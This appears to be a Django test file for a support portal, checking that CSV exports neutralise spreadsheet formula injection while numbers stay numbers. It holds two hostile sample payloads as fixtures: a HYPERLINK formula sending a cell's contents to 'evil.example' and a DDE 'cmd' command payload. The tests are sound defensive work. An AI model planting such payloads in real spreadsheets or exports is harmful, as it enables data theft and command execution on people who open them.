"""CSV exports write what users typed as text: a cell that a spreadsheet would read as a
formula (=, +, -, @, tab, carriage return first) starts with a single quote (OWASP), while
the numbers the portal itself writes stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

from django_tenants.utils import tenant_context

from portal.catalogue.models import ProductModel, SparePart
from portal.csvexport import csv_response
from tests.inventory.conftest import alpha_contract  # noqa: F401 (shared fixture)
from tests.tickets.conftest import setup  # noqa: F401 (shared fixture)
from tickets import services as tickets
from tickets.rma import services as rma_services

from .. import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


def rows_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def cells(response):
    return {cell for row in rows_of(response) for cell in row}


def assert_neutralised(found, *values):
    for value in values:
        assert value not in found, value
        assert "'" + value in found, value


def test_every_dangerous_first_character_is_neutralised_and_numbers_stay_numbers():
    response = csv_response("x.csv", ["a"], [[
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "plain", "", "a=b",
        Decimal("-12.50"), -3, 4, date(2026, 1, 2)]])
    [_, row] = rows_of(response)
    assert row == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "plain", "", "a=b",
                   "-12.50", "-3", "4", "2026-01-02"]


def test_the_ticket_export_neutralises_subjects(world):
    with tenant_context(world.alpha):
        tickets.open_ticket(user=world["alpha_customer1"].user,
                            customer=world.customer(world.alpha, "AL-0001"),
                            subject=HYPERLINK, description="x", category="technical",
                            priority="P3")
    found = cells(world["alpha_agent"].client().get("/tickets/", {"format": "csv"}))
    assert_neutralised(found, HYPERLINK)


def test_the_device_export_neutralises_sites_and_rooms(world):
    with tenant_context(world.alpha):
        factories.DeviceFactory(customer=world.customer(world.alpha, "AL-0001"),
                                serial="HS0000001", site=HYPERLINK, room=COMMAND)
    for persona in ("alpha_agent", "alpha_customer1"):
        found = cells(world[persona].client().get("/devices/", {"format": "csv"}))
        assert_neutralised(found, HYPERLINK, COMMAND)


def test_the_replacement_export_neutralises_carriers_and_tracking_numbers(world, setup):  # noqa: F811
    setup["device"]("HS-0001")
    with tenant_context(world.alpha):
        rma = rma_services.request_rma(user=setup["user"], customer=setup["customer"],
                                       serial="HS-0001", fault="Does not charge")
        rma.carrier, rma.tracking_number = HYPERLINK, "@SUM(1+1)"
        rma.save()
    found = cells(world["alpha_agent"].client().get("/rma/", {"format": "csv"}))
    assert_neutralised(found, HYPERLINK, "@SUM(1+1)")


def test_the_customer_and_contract_exports_neutralise_names(world, alpha_contract):  # noqa: F811
    with tenant_context(world.alpha):
        customer = world.customer(world.alpha, "AL-0001")
        customer.name, customer.city = HYPERLINK, "-2+3"
        customer.save()
    client = world["alpha_agent"].client()
    assert_neutralised(cells(client.get("/customers/", {"format": "csv"})), HYPERLINK, "-2+3")
    contracts = rows_of(client.get("/contracts/", {"format": "csv"}))
    assert_neutralised({cell for row in contracts for cell in row}, HYPERLINK)
    # The annual price is a number the portal writes: it stays one.
    assert all(not row[-1].startswith("'") for row in contracts[1:])


def test_the_catalogue_and_spare_part_exports_neutralise_names(world):
    product = ProductModel.objects.create(sku="EVIL-1", name=HYPERLINK, family="@Family",
                                          category="headsets", list_price="10.00")
    part = SparePart.objects.create(part_number="P-EVIL", description=COMMAND)
    part.compatible_models.add(product)
    client = world["vendor_admin"].client()
    assert_neutralised(cells(client.get("/catalogue/", {"format": "csv"})),
                       HYPERLINK, "@Family")
    assert_neutralised(cells(client.get("/catalogue/parts/", {"format": "csv"})), COMMAND)
